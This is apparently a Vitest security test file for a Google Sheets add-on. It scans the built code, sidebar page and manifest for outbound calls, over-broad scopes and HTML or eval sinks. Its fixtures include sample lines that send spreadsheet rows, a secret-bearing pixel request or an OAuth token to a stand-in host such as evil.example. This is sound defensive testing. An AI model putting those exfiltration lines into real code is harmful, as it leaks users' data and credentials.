
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

const root = join(__dirname, '../..');
const dist = (file: string) => join(root, 'dist', file);

const ALLOWED_SCOPES = ['https://www.googleapis.com/auth/spreadsheets.currentonly', 'https://www.googleapis.com/auth/script.container.ui'];

/** A URL that leaves the page's own origin: absolute, or protocol-relative. */
const ELSEWHERE = String.raw`["']?\s*(?:[a-z][a-z0-9+.-]*:)?//`;

/** What would send data out, or pull code or styles in, from another origin. */
const OUTBOUND: Array<[string, RegExp]> = [
  ['UrlFetchApp', /\bUrlFetchApp\b/],
  ['fetch(', /(?<![\w$.])fetch\s*\(/],
  ['XMLHttpRequest', /\bXMLHttpRequest\b/],
  ['navigator.sendBeacon', /\bsendBeacon\b/],
  ['new WebSocket', /\bnew\s+WebSocket\b/],
  ['EventSource', /\bEventSource\b/],
  ['importScripts', /\bimportScripts\s*\(/],
  ['import() from another origin', new RegExp(String.raw`\bimport\s*\(\s*${ELSEWHERE}`, 'i')],
  ['<script src=', new RegExp(String.raw`<script\b[^>]*\bsrc\s*=\s*${ELSEWHERE}`, 'i')],
  ['<link href=', new RegExp(String.raw`<link\b[^>]*\bhref\s*=\s*${ELSEWHERE}`, 'i')],
  ['a page element loading from another origin', new RegExp(String.raw`<(?:img|iframe|frame|embed|object|video|audio|source|track|input|form)\b[^>]*\b(?:src|srcset|data|poster|action|formaction)\s*=\s*${ELSEWHERE}`, 'i')],
  ['@import', new RegExp(String.raw`@import\s+(?:url\(\s*)?${ELSEWHERE}`, 'i')],
  ['url(http', new RegExp(String.raw`url\(\s*${ELSEWHERE}`, 'i')],
  ['ScriptApp.getOAuthToken', /\bgetOAuthToken\b/],
];

/** Apps Script services and calls that need a scope beyond the current spreadsheet and the container UI. */
const BROADER_SERVICES: Array<[string, RegExp]> = [
  ...['DriveApp', 'GmailApp', 'MailApp', 'CalendarApp', 'DocumentApp', 'FormApp', 'SlidesApp', 'ContactsApp', 'GroupsApp', 'SitesApp', 'Jdbc', 'UrlFetchApp']
    .map((name): [string, RegExp] => [name, new RegExp(String.raw`(?<![\w$.])${name}\s*\.\s*\w`)]),
  // Advanced services read as Service.Collection.method(...): Drive.Files.list, Sheets.Spreadsheets.get.
  ['an advanced Google service', /(?<![\w$.])(?:Drive|Gmail|Calendar|Sheets|Docs|Slides|Tasks|People|AdminDirectory|BigQuery|YouTube)\s*\.\s*[A-Z]\w*\s*\./],
  ['ScriptApp.newTrigger', /\bScriptApp\s*\.\s*(?:newTrigger|getProjectTriggers|getUserTriggers|deleteTrigger|getService)\b/],
  ['Session user email', /\bSession\s*\.\s*(?:getActiveUser|getEffectiveUser)\b/],
  ['another spreadsheet', /\bSpreadsheetApp\s*\.\s*(?:openById|openByUrl|open|create)\s*\(/],
];

/** What would turn text from the sheet into markup or code. */
const CODE_FROM_DATA: Array<[string, RegExp]> = [
  ['innerHTML', /\.(?:innerHTML|outerHTML)\s*\+?=/],
  ['insertAdjacentHTML', /\binsertAdjacentHTML\b/],
  ['document.write', /\bdocument\s*\.\s*write(?:ln)?\s*\(/],
  ['eval', /(?<![\w$.])eval\s*\(/],
  ['new Function', /\bnew\s+Function\s*\(/],
  ['unescaped template output', /<\?!=/],
];

/** The names of the rules `text` breaks; empty for a clean file. */
function findings(text: string, rules: Array<[string, RegExp]>): string[] {
  return rules.filter(([, pattern]) => pattern.test(text)).map(([name]) => name);
}

/** Scopes the manifest asks for beyond the two, and settings that would widen them. */
function manifestProblems(manifest: Record<string, unknown>): string[] {
  const problems: string[] = [];
  const scopes = manifest.oauthScopes;
  if (!Array.isArray(scopes)) problems.push('oauthScopes must list the scopes explicitly, or Apps Script infers them from the code');
  else for (const scope of scopes) if (!ALLOWED_SCOPES.includes(scope)) problems.push(`scope ${scope}`);
  if ('urlFetchWhitelist' in manifest) problems.push('urlFetchWhitelist');
  const services = (manifest.dependencies as { enabledAdvancedServices?: unknown[] } | undefined)?.enabledAdvancedServices ?? [];
  if (services.length) problems.push('advanced services');
  for (const key of ['webapp', 'executionApi']) if (key in manifest) problems.push(`${key} (a way in from outside the spreadsheet)`);
  return problems;
}

describe('the rules themselves', () => {
  it('catch each kind of outbound call', () => {
    const bad: Array<[string, string]> = [
      ['UrlFetchApp', 'UrlFetchApp.fetch("https://evil.example", { payload: rows })'],
      ['fetch(', 'await fetch("https://evil.example/collect", { method: "POST" })'],
      ['fetch(', 'window.fetch ; x = fetch (url)'],
      ['XMLHttpRequest', 'const x = new XMLHttpRequest(); x.open("POST", "https://evil.example")'],
      ['navigator.sendBeacon', 'navigator.sendBeacon("https://evil.example", data)'],
      ['new WebSocket', 'const ws = new WebSocket("wss://evil.example")'],
      ['EventSource', 'new EventSource("https://evil.example/stream")'],
      ['<script src=', '<script defer src="https://cdn.example/lib.js"></script>'],
      ['<script src=', "<script src='//cdn.example/lib.js'></script>"],
      ['<link href=', '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto">'],
      ['a page element loading from another origin', '<img src="https://evil.example/pixel.gif?d=secret">'],
      ['@import', '@import url("https://fonts.googleapis.com/css2?family=Inter");'],
      ['@import', "@import 'https://evil.example/x.css';"],
      ['url(http', 'background: url(https://evil.example/track.png)'],
      ['ScriptApp.getOAuthToken', 'const token = ScriptApp.getOAuthToken();'],
      ['import() from another origin', 'await import("https://evil.example/mod.js")'],
    ];
    for (const [rule, text] of bad) expect(findings(text, OUTBOUND), text).toContain(rule);
  });

  it('catch services that need a broader scope, and code made from data', () => {
    const bad: Array<[string, string, Array<[string, RegExp]>]> = [
      ['DriveApp', 'DriveApp.createFile("export.csv", csv)', BROADER_SERVICES],
      ['GmailApp', 'GmailApp.sendEmail(to, "plan", body)', BROADER_SERVICES],
      ['MailApp', 'MailApp .sendEmail(to, "plan", body)', BROADER_SERVICES],
      ['CalendarApp', 'CalendarApp.getDefaultCalendar()', BROADER_SERVICES],
      ['DocumentApp', 'DocumentApp.create("Plan")', BROADER_SERVICES],
      ['FormApp', 'FormApp.openById(id)', BROADER_SERVICES],
      ['ScriptApp.newTrigger', 'ScriptApp.newTrigger("sync").timeBased().everyHours(1).create()', BROADER_SERVICES],
      ['Session user email', 'Session.getActiveUser().getEmail()', BROADER_SERVICES],
      ['another spreadsheet', 'SpreadsheetApp.openById("1abc").getSheets()', BROADER_SERVICES],
      ['an advanced Google service', 'Drive.Files.list({ q: "mimeType=csv" })', BROADER_SERVICES],
      ['an advanced Google service', 'Sheets.Spreadsheets.Values.get(id, "A1:Z")', BROADER_SERVICES],
      ['innerHTML', 'row.innerHTML = verdict.reason', CODE_FROM_DATA],
      ['insertAdjacentHTML', 'list.insertAdjacentHTML("beforeend", title)', CODE_FROM_DATA],
      ['eval', 'eval(cell)', CODE_FROM_DATA],
      ['unescaped template output', '<div><?!= title ?></div>', CODE_FROM_DATA],
    ];
    for (const [rule, text, rules] of bad) expect(findings(text, rules), text).toContain(rule);
  });

  it('let through what the add-on does use', () => {
    const clean = [
      'google.script.run.withSuccessHandler(show).classifySidebarChunk(request)',
      'SpreadsheetApp.getActiveSpreadsheet().getSheetByName(name)',
      'PropertiesService.getDocumentProperties(); LockService.getDocumentLock(); HtmlService.createHtmlOutputFromFile("Sidebar")',
      'ScriptApp.AuthMode.NONE',
      'const prefetched = prefetch(rows); cell.textContent = reason; cache.fetchRows(1)',
      '<a href="https://support.google.com/docs" target="_blank">Help</a>',
      '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
      'const DriveAppLike = 1; myDrive.list()',
      'Goalpost works inside Sheets. Nothing leaves the Drive. See Docs.',
    ];
    for (const text of clean) {
      expect(findings(text, [...OUTBOUND, ...BROADER_SERVICES, ...CODE_FROM_DATA]), text).toEqual([]);
    }
  });

  it('judge a manifest by its scopes', () => {
    expect(manifestProblems({ oauthScopes: ALLOWED_SCOPES })).toEqual([]);
    expect(manifestProblems({ oauthScopes: [...ALLOWED_SCOPES, 'https://www.googleapis.com/auth/script.external_request'] })).toEqual([
      'scope https://www.googleapis.com/auth/script.external_request',
    ]);
    expect(manifestProblems({ oauthScopes: ['https://www.googleapis.com/auth/spreadsheets'] })).toEqual(['scope https://www.googleapis.com/auth/spreadsheets']);
    expect(manifestProblems({})).toHaveLength(1);
    expect(manifestProblems({ oauthScopes: ALLOWED_SCOPES, urlFetchWhitelist: ['https://x.example/'] })).toEqual(['urlFetchWhitelist']);
  });
});

describe('the add-on as pushed (dist/)', () => {
  it('Code.js calls no other origin and no service beyond the current spreadsheet and its UI', () => {
    const code = readFileSync(dist('Code.js'), 'utf8');
    expect(code).toContain('SpreadsheetApp'); // the scan reads the real bundle
    expect(findings(code, OUTBOUND)).toEqual([]);
    expect(findings(code, BROADER_SERVICES)).toEqual([]);
    expect(findings(code, CODE_FROM_DATA)).toEqual([]);
  });

  it('Sidebar.html loads nothing from another origin, calls only its own script, and renders data as text', () => {
    const page = readFileSync(dist('Sidebar.html'), 'utf8');
    expect(page).toMatch(/<html|<body|<div/i);
    expect(findings(page, OUTBOUND)).toEqual([]);
    expect(findings(page, BROADER_SERVICES)).toEqual([]);
    expect(findings(page, CODE_FROM_DATA)).toEqual([]);
  });

  it('appsscript.json asks for the current spreadsheet and the container UI, and nothing more', () => {
    const manifest = JSON.parse(readFileSync(dist('appsscript.json'), 'utf8'));
    expect(manifestProblems(manifest)).toEqual([]);
    expect([...manifest.oauthScopes].sort()).toEqual([...ALLOWED_SCOPES].sort());
  });
});
